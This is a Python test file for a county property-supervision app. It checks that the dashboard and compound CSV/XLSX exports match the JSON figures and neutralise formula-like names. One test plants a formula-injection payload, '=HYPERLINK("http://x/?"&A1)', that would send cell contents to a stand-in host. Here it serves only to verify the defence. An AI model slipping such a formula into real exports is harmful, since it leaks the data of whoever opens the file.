"""The dashboards' CSV/XLSX exports over HTTP: every exported figure equals the JSON route's for the
same filters (whose figures test_dashboard checks against counts of the rows), a name that would
run as a formula is defused in both formats, and the filters and the community scope apply alike."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import httpx
from openpyxl import load_workbook

from accounts.models import Community, Compound
from core import clock
from ratings import credit
from ratings.rules import CreditPart, CreditSource
from tests.ratings.conftest import ACTOR

from .conftest import SINCE, UNTIL, County

PERIOD = {"since": str(SINCE), "until": str(UNTIL)}
YES = {True: "是", False: "否"}
CREDIT = ("AAA", "AA", "A", "B", "C")


def text(value: Any) -> str:
    """A JSON value as the export writes it."""
    if isinstance(value, bool):
        return YES[value]
    return "" if value is None else str(value)


def table(r: httpx.Response, kind: str) -> list[dict[str, str]]:
    """The rows of an export as {column: cell text}."""
    assert r.status_code == 200, r.text
    if kind == "csv":
        assert r.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    else:
        assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
        sheet = load_workbook(io.BytesIO(r.content)).active
        assert sheet is not None
        rows = [["" if c.value is None else str(c.value) for c in row] for row in sheet.iter_rows()]
    assert r.headers["content-disposition"].endswith(f'.{kind}"')
    header, body = rows[0], rows[1:]
    assert all(len(row) == len(header) for row in body)
    return [dict(zip(header, row, strict=True)) for row in body]


def complaint_cells(figures: dict[str, Any]) -> dict[str, str]:
    return {
        "投诉数": text(figures["count"]),
        "已办结": text(figures["resolved"]),
        "超时占比": text(figures["overdue_share"]),
        "办结时长中位数（小时）": text(figures["median_hours_to_resolve"]),
        "平均评价": text(figures["average_rating"]),
        "评价数": text(figures["ratings"]),
    }


def community_cells(s: dict[str, Any], stars: list[str]) -> dict[str, str]:
    cells = {
        "社区编号": text(s.get("community_id")),
        "社区": s.get("name", "合计"),
        "小区数": text(s["compounds"]),
        "业主委员会在任": text(s["committees_formed"]),
        "其中已备案": text(s["committees_filed"]),
        "业主委员会覆盖率": text(s["committee_share"]),
        "业主委员会覆盖达标": text(s["committee_share_met"]),
        "专业化物业服务小区数": text(s["professional_service"]),
        "专业化物业服务占比": text(s["professional_service_share"]),
        "专业化物业服务达标（≥50%）": text(s["professional_service_met"]),
        "巡查覆盖率": text(s["patrol_coverage"]),
        "上周已巡查小区数": text(s["patrolled_last_week"]),
        "上周巡查占比": text(s["patrolled_last_week_share"]),
        **complaint_cells(s["complaints"]),
        **{
            ("未达星级小区数" if k == "0" else f"{k}星小区数"): text(s["star_grades"].get(k, 0))
            for k in stars
        },
        **{f"信用{g}小区数": text(s["credit_grades"].get(g, 0)) for g in CREDIT},
    }
    for n, t in enumerate(s.get("committee_targets", []), start=1):
        cells |= {
            f"目标{n}期限": t["deadline"], f"目标{n}业委会数": text(t["target"]), f"目标{n}统计日": t["as_of"],
            f"目标{n}已成立": text(t["formed"]), f"目标{n}已备案": text(t["filed"]),
            f"目标{n}已达成": text(t["met"]), f"目标{n}已到期": text(t["due"]),
        }  # fmt: skip
    return cells


def assert_communities_equal(rows: list[dict[str, str]], data: dict[str, Any]) -> None:
    summaries = [*data["communities"], data["county"]]
    stars = sorted({k for s in summaries for k in s["star_grades"]}, key=int)
    assert len(rows) == len(summaries)
    for row, summary in zip(rows, summaries, strict=True):
        expected = community_cells(summary, stars)
        # a community with fewer targets than another leaves the other's target columns empty
        assert {k: v for k, v in row.items() if k in expected} == expected
        assert all(v == "" for k, v in row.items() if k not in expected)
        assert set(expected) <= set(row)


async def test_community_and_month_exports_equal_the_json(api: httpx.AsyncClient, county: County) -> None:
    h = county.headers("supervisor")
    a = county.communities["A"].id
    for params in (PERIOD, {**PERIOD, "community_id": a}, {**PERIOD, "company_id": county.companies["X"].id}):
        r = await api.get("/supervision/dashboard", params=params, headers=h)
        assert r.status_code == 200, r.text
        data = r.json()
        assert data["county"]["compounds"] > 0 and any(c["committee_targets"] for c in data["communities"])
        for kind in ("csv", "xlsx"):
            q = {**params, "format": kind}
            rows = table(
                await api.get("/supervision/dashboard/communities/export", params=q, headers=h), kind
            )
            assert_communities_equal(rows, data)
            months = table(await api.get("/supervision/dashboard/months/export", params=q, headers=h), kind)
            assert months == [{"月份": m["month"], **complaint_cells(m)} for m in data["months"]]
    assert sum(int(m["投诉数"]) for m in months) == data["county"]["complaints"]["count"] > 0
    # the community admin's own exports are the community dashboard's figures
    admin = county.headers("community_admin")
    r = await api.get(f"/admin/communities/{a}/dashboard", params=PERIOD, headers=admin)
    data = r.json()
    for kind in ("csv", "xlsx"):
        q = {**PERIOD, "format": kind}
        path = f"/admin/communities/{a}/dashboard"
        rows = table(await api.get(f"{path}/communities/export", params=q, headers=admin), kind)
        assert [row["社区"] for row in rows] == ["东街社区", "合计"]
        assert_communities_equal(rows, data)
        months = table(await api.get(f"{path}/months/export", params=q, headers=admin), kind)
        assert months == [{"月份": m["month"], **complaint_cells(m)} for m in data["months"]]
    # the same period check as the JSON routes
    bad = {"since": "2026-06-01", "until": "2026-05-01"}
    r = await api.get("/supervision/dashboard/months/export", params=bad, headers=h)
    assert (r.status_code, r.json()["code"]) == (400, "dashboard_period_invalid")
    r = await api.get("/supervision/dashboard/months/export", params={**PERIOD, "format": "pdf"}, headers=h)
    assert r.status_code == 400


async def test_the_compound_export_has_every_column_of_the_list(
    api: httpx.AsyncClient, county: County
) -> None:
    await credit.add_record(
        ACTOR, user_id=county.users["supervisor"].id, company_id=county.companies["X"].id,
        source=CreditSource.COMMENDATION, part=CreditPart.GOOD, points=Decimal(5), reason="获评县级表彰",
        valid_from=SINCE,
    )  # fmt: skip
    h = county.headers("supervisor")
    period = {"since": str(SINCE), "until": str(clock.to_local(clock.now()).date())}  # the record is known
    r = await api.get("/supervision/compounds", params={**period, "limit": 50}, headers=h)
    items = {str(item["compound_id"]): item for item in r.json()["items"]}
    for kind in ("csv", "xlsx"):
        rows = table(
            await api.get("/supervision/compounds/export", params={**period, "format": kind}, headers=h), kind
        )
        assert [row["小区编号"] for row in rows] == list(items)
        for row in rows:
            item = items[row["小区编号"]]
            assert (row["小区"], row["投诉数"], row["评价数"], row["巡查覆盖周数"]) == (
                item["name"], text(item["complaints"]["count"]), text(item["complaints"]["ratings"]),
                text(item["weeks_patrolled"]),
            )  # fmt: skip
            assert (row["星级"], row["星级得分"], row["信用等级"], row["信用分"]) == tuple(
                text(item[k]) for k in ("star_grade", "star_score", "credit_grade", "credit_score")
            )
        assert any(row["信用等级"] for row in rows)


async def test_a_name_that_would_run_as_a_formula_is_text_in_every_export(
    api: httpx.AsyncClient, county: County
) -> None:
    community, compound = "=1+2社区", '=HYPERLINK("http://x/?"&A1)苑'
    await Community.filter(id=county.communities["B"].id).update(name=community)
    await Compound.filter(id=county.compounds["b1"].id).update(name=compound)
    h = county.headers("supervisor")
    exports = [("/supervision/dashboard/communities/export", "社区", community),
               ("/supervision/compounds/export", "小区", compound),
               ("/supervision/compounds/export", "社区", community)]  # fmt: skip
    for path, column, name in exports:
        r = await api.get(path, params={**PERIOD, "format": "csv"}, headers=h)
        rows = table(r, "csv")
        assert "'" + name in [row[column] for row in rows]  # the apostrophe makes it text
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
        r = await api.get(path, params={**PERIOD, "format": "xlsx"}, headers=h)
        sheet = load_workbook(io.BytesIO(r.content)).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == name]
        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


async def test_every_export_is_documented_with_both_formats(server: Any) -> None:
    async with httpx.AsyncClient(base_url=server.url, timeout=60) as http:
        r = await http.get("/docs/openapi.json")
    assert r.status_code == 200
    paths = r.json()["paths"]
    exports = [
        "/api/v1/supervision/compounds/export",
        "/api/v1/supervision/dashboard/communities/export",
        "/api/v1/supervision/dashboard/months/export",
        "/api/v1/admin/communities/{community_id}/dashboard/communities/export",
        "/api/v1/admin/communities/{community_id}/dashboard/months/export",
    ]
    for path in exports:
        operation = paths[path]["get"]
        assert set(operation["responses"]["200"]["content"]) == {
            "text/csv",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        }
        query = {p["name"] for p in operation["parameters"] if p["in"] == "query"}
        assert query == {"since", "until", "community_id", "compound_id", "company_id", "format"}
